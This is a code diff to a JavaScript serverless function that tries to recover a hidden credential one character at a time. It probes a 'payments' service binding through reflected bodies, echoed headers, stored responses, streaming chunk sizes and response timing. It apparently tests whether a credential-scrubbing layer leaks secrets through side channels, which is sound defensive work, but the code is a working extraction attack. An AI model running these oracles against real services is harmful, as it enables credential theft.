@@ -1,49 +1,46 @@
 // A function that tries to learn its own credential from what comes back of its calls, letter by letter.
 //
-// A request's JSON body says how: { way, path, known, alphabet, length }. `path` is a path of the capability
-// `payments` whose upstream returns the text that it is sent; `known` is how the credential begins. The
+// A request's JSON body says how: { way, path, base, known, alphabet, length }. `path` is a path of the capability
+// `payments` whose upstream returns the text that it is sent: for `pieces` as it comes, for `stored` to a later GET, for
+// which the function also uses a plain `fetch` of `base` and `path`. `known` is how the credential begins. The
 // answer is { recovered, calls }. Each step sends `known` and one more letter, for every letter, and
 // compares what it observes: the letter that behaves like no other is taken for the next one. A step
 // in which no letter, or more than one, stands out ends the attempt. On a busy machine `time` also takes
 // letters that stand out by chance: only those that are right count.
 
 const FILLER = ".".repeat(4096);
-// Rounds of a timed guess; the median counts.
-const TIMED_ROUNDS = 5;
+// An answer of which so long nothing comes waits for the rest of the text that it returns.
+const QUIET_MS = 20;
+// Rounds of a timed guess. The faster half counts: what a busy machine adds is left out.
+const TIMED_ROUNDS = 6;
 // Repetitions of a timed guess in one body: what a scrubber spends on one must add up.
-const TIMED_REPEATS = 4096;
+const TIMED_REPEATS = 1024;
 
 let calls;
+
+const encode = (text) => new TextEncoder().encode(text);
 
 function call(env, path, init) {
   calls++;
   return env.payments.fetch(path, { method: "POST", ...init });
 }
 
+// What is seen of each guess in a text that holds one in each of its last lines.
+function lastLines(text, guesses) {
+  const lines = text.split("\n").slice(-guesses.length);
+  return guesses.map((guess, i) => without(lines[i] ?? "", guess));
+}
+
 // What is left of an answer when the guess is taken out: the same for all guesses that are left alone.
 const without = (text, guess) => text.replaceAll(guess, "GUESS");
 
-// Counts turns of the event loop: the finest clock that a function has while a call is under way.
-function ticks() {
-  const { port1, port2 } = new MessageChannel();
-  let count = 0;
-  port1.onmessage = () => {
-    count++;
-    port2.postMessage(0);
-  };
-  port2.postMessage(0);
-  return () => {
-    port1.close();
-    port2.close();
-    return count;
-  };
-}
+const quiet = () => new Promise((go) => setTimeout(go, QUIET_MS));
 
 const median = (numbers) => numbers.sort((a, b) => a - b)[numbers.length >> 1];
 
 // Way -> what the function sees of each guess, in order.
 const ways = {
-  async body(env, path, guesses) {
+  async body({ env, path }, guesses) {
     const seen = [];
     for (const guess of guesses) {
       const answer = await call(env, path, { body: guess });
@@ -51,12 +48,18 @@ const ways = {
     }
     return seen;
   },
-  async many(env, path, guesses) {
+  async many({ env, path }, guesses) {
     const answer = await call(env, path, { body: guesses.join("\n") });
-    const lines = (await answer.text()).split("\n").slice(-guesses.length);
-    return guesses.map((guess, i) => without(lines[i] ?? "", guess));
+    return lastLines(await answer.text(), guesses);
   },
-  async header(env, path, guesses) {
+  async stored({ env, path, base }, guesses) {
+    await (await call(env, path, { body: guesses.join("\n") })).text();
+    const slot = await call(env, path, { method: "GET" });
+    const ofSlot = lastLines(await slot.text(), guesses);
+    const plain = lastLines(await (await fetch(base + path)).text(), guesses);
+    return guesses.map((_, i) => `${ofSlot[i]} ${plain[i]}`);
+  },
+  async header({ env, path }, guesses) {
     const seen = [];
     for (const guess of guesses) {
       const headers = { origin: guess, "x-request-id": guess };
@@ -66,40 +69,53 @@ const ways = {
     }
     return seen;
   },
-  async pieces(env, path, guesses) {
+  async pieces({ env, path }, guesses) {
     const seen = [];
     for (const guess of guesses) {
+      let sendRest;
       const body = new ReadableStream({
         async start(controller) {
-          controller.enqueue(new TextEncoder().encode(FILLER + guess));
-          await new Promise((go) => setTimeout(go, 20));
-          controller.enqueue(new TextEncoder().encode(FILLER));
+          controller.enqueue(encode(FILLER + guess));
+          await new Promise((go) => sendRest = go);
+          controller.enqueue(encode(FILLER));
           controller.close();
         },
       });
-      const sizes = [];
-      for await (const piece of (await call(env, path, { body, duplex: "half" })).body) {
-        sizes.push(piece.length);
+      const reader = (await call(env, path, { body, duplex: "half" })).body.getReader();
+      // How much comes while the answer ends in the guess, and how much later.
+      const sizes = [0, 0];
+      let next = reader.read();
+      for (let piece; (piece = await Promise.race([next, quiet()])) && !piece.done; next = reader.read()) {
+        sizes[0] += piece.value.length;
+      }
+      sendRest();
+      for (let piece; !(piece = await next).done; next = reader.read()) {
+        sizes[1] += piece.value.length;
       }
       seen.push(sizes.join());
     }
     return seen;
   },
-  async time(env, path, guesses) {
-    const medians = [];
-    for (const guess of guesses) {
-      const counts = [];
-      for (let round = 0; round < TIMED_ROUNDS; round++) {
-        const count = ticks();
-        const answer = await call(env, path, { body: `${guess} `.repeat(TIMED_REPEATS) });
-        await answer.arrayBuffer();
-        counts.push(count());
+  async time({ env, path }, guesses) {
+    const rounds = guesses.map(() => []);
+    // All guesses take turns: a machine that grows busy slows all of them.
+    for (let round = 0; round < TIMED_ROUNDS; round++) {
+      for (const [i, guess] of guesses.entries()) {
+        const body = `${guess} `.repeat(TIMED_REPEATS);
+        // The clock moves on between turns.
+        await new Promise((go) => setTimeout(go, 0));
+        const began = performance.now();
+        await (await call(env, path, { body })).arrayBuffer();
+        rounds[i].push(performance.now() - began);
       }
-      medians.push(median(counts));
     }
+    const times = rounds.map((of) => {
+      const faster = of.sort((a, b) => a - b).slice(0, TIMED_ROUNDS / 2);
+      return faster.reduce((sum, time) => sum + time, 0);
+    });
     // Stands out: further from the median than twice what all but the furthest are.
-    const middle = median([...medians]);
-    const distances = medians.map((value) => Math.abs(value - middle));
+    const middle = median([...times]);
+    const distances = times.map((time) => Math.abs(time - middle));
     const usual = distances.toSorted((a, b) => a - b).at(-2);
     return distances.map((distance) => (distance > 2 * usual ? "slow" : "usual"));
   },
@@ -113,12 +129,13 @@ function outlier(guesses, seen) {
 
 export default {
   async fetch(request, env) {
-    const { way, path, known, alphabet, length } = await request.json();
+    const { way, path, base, known, alphabet, length } = await request.json();
+    const target = { env, path, base };
     calls = 0;
     let recovered = known;
     while (recovered.length < length) {
       const guesses = [...alphabet].map((letter) => recovered + letter);
-      const next = outlier(guesses, await ways[way](env, path, guesses));
+      const next = outlier(guesses, await ways[way](target, guesses));
       if (next === undefined) break;
       recovered = next;
     }
